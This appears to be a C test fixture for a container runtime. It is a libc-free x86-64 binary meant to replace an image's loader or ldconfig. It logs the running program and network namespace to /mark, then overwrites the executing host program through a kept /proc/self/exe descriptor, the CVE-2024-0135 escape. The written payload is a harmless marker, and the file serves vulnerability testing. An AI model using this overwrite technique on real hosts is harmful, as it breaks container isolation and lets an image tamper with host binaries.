// SPDX-License-Identifier: Apache-2.0
// What an image can have in the place of its loader (ld-linux-x86-64.so.2) or of ldconfig. Whoever
// runs it leaves "PROGRAM NETWORK-NAMESPACE" in /mark of the root, and the file that is being run
// (with an image's loader: the host's program) is overwritten through /proc/self/exe once it is no
// longer busy, as in CVE-2024-0135. /sbin/image_program must be a copy of it. Without a C library,
// because a loader starts with another program's headers. x86-64.
enum { kRead = 0, kWrite = 1, kClose = 3, kFork = 57, kExecve = 59, kExit = 60, kReadlink = 89 };
enum { kOpen = 2, kDup2 = 33, kNanosleep = 35 };
enum { kWriteOnly = 1, kCreate = 0100, kTruncate = 01000, kAppend = 02000 };
enum { kKept = 100 };

static long call(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c)
                   : "rcx", "r11", "memory");
  return result;
}

static void overwrite_when_free(void) {
  for (int i = 0; i < 100; i++) {
    long fd = call(kOpen, (long)"/proc/self/fd/100", kWriteOnly | kTruncate, 0);
    if (fd >= 0) {
      call(kWrite, fd, (long)"overwritten\n", 12);
      call(kExit, 0, 0, 0);
    }
    long wait[2] = {0, 5000000};
    call(kNanosleep, (long)wait, 0, 0);
  }
  call(kExit, 1, 0, 0);
}

__attribute__((used)) static void run(long* stack) {
  const char* name = stack[0] > 0 ? (const char*)stack[1] : "";
  if (name[0] == '!') overwrite_when_free();

  char line[8192];
  long length = call(kReadlink, (long)"/proc/self/exe", (long)line, 4096);
  if (length < 0) length = 0;
  line[length++] = ' ';
  long net = call(kReadlink, (long)"/proc/self/ns/net", (long)(line + length), 64);
  if (net > 0) length += net;
  line[length++] = '\n';
  long mark = call(kOpen, (long)"/mark", kWriteOnly | kCreate | kAppend, 0666);
  if (mark >= 0) call(kWrite, mark, (long)line, length);

  long self = call(kOpen, (long)"/proc/self/exe", 0, 0);
  if (self >= 0 && call(kDup2, self, kKept, 0) == kKept && call(kFork, 0, 0, 0) == 0) {
    // Another program, or the file stays busy; the descriptor is kept.
    const char* const argv[] = {"!", 0};
    const char* const envp[] = {0};
    call(kExecve, (long)"/sbin/image_program", (long)argv, (long)envp);
  }
  call(kExit, 0, 0, 0);
}

__asm__(".globl _start\n_start: mov %rsp, %rdi\nand $-16, %rsp\ncall run\n");
